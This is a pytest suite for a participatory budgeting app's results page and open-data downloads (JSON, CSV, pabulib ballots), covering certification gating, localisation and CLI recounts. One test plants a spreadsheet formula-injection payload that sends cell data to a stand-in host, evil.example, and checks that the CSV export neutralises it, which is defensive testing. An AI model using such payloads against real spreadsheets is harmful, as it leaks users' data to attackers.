"""The results page and the open-data downloads."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from pb.cli import cli
from pb.domain.pabulib import read_pabulib
from pb.services import outcomes, pabulib_io, rounds
from tests.conftest import text
from tests.shared_data import shared_data


@pytest.fixture()
def assen(app: Any, make_user: Any) -> Any:
    """Assen's imported round, with its count certified (which publishes the results)."""
    source = (shared_data() / "pabulib" / "Netherlands_Assen_2024.pb").read_text()
    round_ = pabulib_io.do_import(source, None)
    outcomes.do_certify(make_user("officer"), round_)
    return round_


def test_results_are_hidden_until_certified(client: Any, make_user: Any, login: Any) -> None:
    source = (shared_data() / "pabulib" / "Netherlands_Assen_2024.pb").read_text()
    round_ = pabulib_io.do_import(source, None)
    page = text(client.get(f"/rounds/{round_.id}/results"))
    assert "published as soon as the decision body has checked and certified" in page
    assert "projects are funded" not in page
    assert client.get(f"/rounds/{round_.id}/results.json").status_code == 404
    officer = login(make_user("officer"))
    preview = text(client.get(f"/rounds/{round_.id}/results"))
    assert "Provisional count, not published." in preview and "projects are funded" in preview
    assert client.get(f"/rounds/{round_.id}/results.json").status_code == 200
    outcomes.do_certify(officer, round_)
    client.get("/logout")
    with client.session_transaction() as session:
        session.clear()
    public = text(client.get(f"/rounds/{round_.id}/results"))
    assert "9 projects are funded" in public and "Provisional" not in public


def test_results_page_explains_every_project(client: Any, assen: Any) -> None:
    page = text(client.get(f"/rounds/{assen.id}/results"))
    assert "9 projects are funded, using €76,700 of the €100,000 budget." in page
    assert page.count('<tr role="row">') == 14 + 1  # header + every project
    assert "Funded in round 1 of Equal Shares" in page
    assert 'lang="nl"' in page and "<svg" in page and 'role="img"' in page


def test_results_page_in_welsh_has_no_english_sentences(client: Any, assen: Any) -> None:
    page = text(client.get(f"/rounds/{assen.id}/results?lang=cy"))
    assert '<html lang="cy">' in page
    assert "Equal Shares:" not in page and "Funded in round" not in page


def test_downloads(client: Any, assen: Any) -> None:
    data = client.get(f"/rounds/{assen.id}/results.json").get_json()
    assert sorted(data["selected"], key=int) == ["2", "3", "5", "6", "9", "11", "12", "13", "14"]
    assert data["ballots"] == 84 and len(data["input_sha256"]) == 64
    response = client.get(f"/rounds/{assen.id}/results.csv")
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 14 and {r["status"] for r in rows} == {"funded", "not_funded"}
    assert "attachment" in response.headers["Content-Disposition"]
    election = read_pabulib(client.get(f"/rounds/{assen.id}/ballots.pb").get_data(as_text=True))
    assert len(election.votes) == 84


def test_results_wait_for_the_results_phase(client: Any, make_round: Any) -> None:
    round_ = make_round("voting")
    page = text(client.get(f"/rounds/{round_.id}/results"))
    assert "published when voting has closed" in page
    for suffix in ("results.json", "results.csv", "ballots.pb"):
        assert client.get(f"/rounds/{round_.id}/{suffix}").status_code == 404


def test_a_round_with_no_ballots_says_so(client: Any, make_round: Any, make_user: Any,
                                        login: Any) -> None:
    round_ = make_round("results")
    login(make_user("officer"))
    assert "nothing to count" in text(client.get(f"/rounds/{round_.id}/results"))
    assert client.get(f"/rounds/{round_.id}/results.json").status_code == 404


def test_round_page_links_to_results(client: Any, assen: Any, make_user: Any) -> None:
    assert f"/rounds/{assen.id}/results" in text(client.get(f"/rounds/{assen.id}"))
    rounds.do_change_phase(make_user("officer"), assen, "implementation")
    assert f"/rounds/{assen.id}/results" in text(client.get(f"/rounds/{assen.id}"))


def test_import_and_recount_from_the_command_line(app: Any, tmp_path: Any) -> None:
    runner = app.test_cli_runner()
    path = shared_data() / "pabulib" / "Netherlands_Assen_2024.pb"
    result = runner.invoke(args=["import", str(path)])
    assert result.exit_code == 0 and "Imported round" in result.output, result.output
    round_id = result.output.split("round ")[1].split(":")[0]
    recount = runner.invoke(cli, ["tally", "--round", round_id])
    assert recount.exit_code == 0, recount.output
    assert "Selected 9 projects for 76700 EUR" in recount.output
    missing = runner.invoke(cli, ["tally", "--round", "9999"])
    assert missing.exit_code != 0 and "There is no round 9999" in missing.output
    bad = tmp_path / "bad.pb"
    bad.write_text("META\nkey;value\nbudget;x\n")
    result = runner.invoke(args=["import", str(bad)])
    assert result.exit_code != 0 and "not a valid pabulib file" in result.output


def test_every_download_names_its_charset_once(client: Any, assen: Any) -> None:
    for path in ("results.csv", "ballots.pb", "results.json", "receipts.txt"):
        response = client.get(f"/rounds/{assen.id}/{path}")
        assert response.status_code == 200, path
        assert response.headers["Content-Type"].count("charset") <= 1, path
    css = client.get("/static/css/app.css")
    assert css.headers["Content-Type"] == "text/css; charset=utf-8"


def test_results_csv_keeps_formulas_as_text(client: Any, assen: Any) -> None:
    from pb.extensions import db
    from pb.services import counting

    proposal = counting.ballot_proposals(assen)[0]
    proposal.title = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    db.session.commit()
    rows = list(csv.DictReader(io.StringIO(
        client.get(f"/rounds/{assen.id}/results.csv").get_data(as_text=True))))
    titles = {row["title"] for row in rows}
    assert "'" + proposal.title in titles
    assert not any(t.startswith(("=", "+", "-", "@")) for t in titles)
